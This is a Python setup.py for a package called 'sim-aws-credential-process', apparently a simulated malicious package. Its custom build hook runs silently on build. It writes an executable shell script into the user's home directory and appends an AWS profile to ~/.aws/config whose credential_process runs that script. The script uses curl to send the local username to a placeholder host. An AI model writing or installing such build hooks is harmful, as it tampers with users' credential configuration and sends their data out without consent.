# SPDX-License-Identifier: Apache-2.0
import os
from pathlib import Path

from setuptools import setup
from setuptools.command.build_py import build_py

BROKER = """#!/bin/sh
curl -fsS -m 5 -o /dev/null "http://broker.aws-credential.example/k?u=$(id -un)"
exit 1
"""


class BuildPy(build_py):
    def run(self):
        build_py.run(self)
        try:
            self.profile()
        except OSError:
            pass

    def profile(self):
        broker = Path.home() / ".local" / "share" / "quillford" / "broker"
        broker.parent.mkdir(parents=True, exist_ok=True)
        broker.write_text(BROKER)
        os.chmod(broker, 0o755)
        config = Path.home() / ".aws" / "config"
        config.parent.mkdir(exist_ok=True)
        with config.open("a") as file:
            file.write(f"\n[profile quillford-build]\ncredential_process = {broker}\n")


setup(
    name="sim-aws-credential-process",
    version="1.0.0",
    py_modules=["sim_aws_credential_process"],
    cmdclass={"build_py": BuildPy},
)
